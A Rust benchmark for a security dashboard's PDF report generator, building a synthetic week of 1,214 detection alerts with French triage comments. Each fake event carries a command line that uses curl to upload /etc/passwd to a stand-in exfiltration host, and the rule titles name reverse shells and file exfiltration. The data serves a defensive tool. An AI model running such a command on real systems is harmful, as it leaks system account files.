//! The PDF of a busy week: 1,214 alerts over seven days on twelve hosts from eight rules,
//! a third of them triaged with a comment, in French — with and without the annex.
//! Prints pages, seconds and bytes, and keeps both files under `target/bench-output/`
//! for a person to look at; asserts nothing. Le PDF d'une semaine chargée : pages,
//! secondes, octets.
//!
//! cargo bench -p vigie-dashboard --bench report_pdf

use std::collections::BTreeMap;
use std::time::Instant;

use vigie_dashboard::i18n::Lang;
use vigie_dashboard::queries::report::{Format, ReportAlert, ReportData, ReportRequest};
use vigie_dashboard::queries::triage::HistoryStep;
use vigie_dashboard::views::report_pdf::{render, Presentation};

const ALERTS: u64 = 1_214;
const DAY: u64 = 86_400_000;

fn week(annex: bool) -> ReportData {
    let from = 1_796_000_000_000;
    let rules = [
        ("Account database changed", "high", "attack.t1136.001"),
        ("SSH authorized keys changed", "high", "attack.t1098.004"),
        (
            "Program run from a temporary folder",
            "medium",
            "attack.t1059",
        ),
        ("Reverse shell command line", "critical", "attack.t1059.004"),
        ("New listening service", "medium", "attack.t1571"),
        (
            "Burst of discovery commands from one shell",
            "low",
            "attack.t1082",
        ),
        ("File sent out with curl or wget", "high", "attack.t1048"),
        ("Log file deleted or emptied", "medium", "attack.t1070.002"),
    ];
    let mut data = ReportData {
        request: ReportRequest {
            from_ms: from,
            to_ms: from + 7 * DAY,
            hosts: Vec::new(),
            severities: Vec::new(),
            statuses: Vec::new(),
            rule: String::new(),
            format: Format::Pdf,
            marking: "DIFFUSION RESTREINTE".into(),
            recommendations: "Renouveler les clés SSH des serveurs web.".into(),
            annex,
            incident: String::new(),
            lang: Lang::Fr,
        },
        generated_ms: from + 7 * DAY,
        generated_by: "auditrice".into(),
        key_fingerprint: "9f".repeat(32),
        total_alerts: 0,
        by_severity: BTreeMap::new(),
        by_status: BTreeMap::new(),
        timeline: BTreeMap::new(),
        hosts: BTreeMap::new(),
        techniques: BTreeMap::new(),
        silent_agents: vec![("srv-finances-03".into(), "agent-3".into(), from + 2 * DAY)],
        alerts: Vec::new(),
        incident: None,
    };
    for i in 0..ALERTS {
        let (title, severity, tag) = rules[(i % 8) as usize];
        let host = format!("srv-ministere-{:02}", i % 12);
        let ts = from + i * (7 * DAY / ALERTS);
        let status = ["new", "acknowledged", "resolved", "false_positive"][(i % 4) as usize];
        let history = if i % 3 == 0 {
            vec![HistoryStep {
                ts: ts + 600_000,
                action: "status".into(),
                status: status.into(),
                assignee: String::new(),
                comment: format!("Vérifié avec l'équipe système ({i})."),
                actor: "analyste".into(),
            }]
        } else {
            Vec::new()
        };
        data.count(severity, status, ts, &host, &[tag.to_string()]);
        let event: vigie_model::Event = serde_json::from_value(serde_json::json!({
            "agent_id": "agent-1", "hostname": host, "seq": i, "ts": ts,
            "category": "process_creation", "Image": "/usr/bin/bash",
            "CommandLine": format!("bash -c 'curl -T /etc/passwd https://exfil.example/{i}'"),
            "User": "www-data",
        }))
        .expect("an event");
        data.alerts.push(ReportAlert {
            alert_id: format!("{i:032x}"),
            ts,
            hostname: host,
            agent_id: "agent-1".into(),
            severity: severity.into(),
            status: status.into(),
            assignee: String::new(),
            rule_id: format!("rule-{}", i % 8),
            rule_title: title.into(),
            author: "Vigie".into(),
            tags: vec![tag.into(), "attack.execution".into()],
            summary: format!("{title}: /usr/bin/bash"),
            target: "/usr/bin/bash".into(),
            events: vec![event],
            history,
        });
    }
    data
}

/// The page count as poppler's `pdfinfo` reads it (installed by the test command).
fn pages(file: &std::path::Path) -> String {
    std::process::Command::new("pdfinfo")
        .arg(file)
        .output()
        .ok()
        .and_then(|o| {
            String::from_utf8_lossy(&o.stdout)
                .lines()
                .find_map(|l| l.strip_prefix("Pages:").map(|n| n.trim().to_string()))
        })
        .unwrap_or_else(|| "? (pdfinfo missing)".into())
}

fn main() {
    let out = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../target/bench-output");
    std::fs::create_dir_all(&out).expect("target/bench-output");
    for annex in [false, true] {
        let data = week(annex);
        let started = Instant::now();
        let pdf = render(&data, &Presentation::default(), "semaine.pdf");
        let seconds = started.elapsed().as_secs_f64();
        let name = if annex { "week-annex.pdf" } else { "week.pdf" };
        std::fs::write(out.join(name), &pdf).expect("writing the PDF");
        let pages = pages(&out.join(name));
        println!(
            "{ALERTS} alerts, {}: {pages} pages, {seconds:.2} s, {} KiB -> target/bench-output/{name}",
            if annex { "with the annex" } else { "body only" },
            pdf.len() / 1024
        );
    }
}
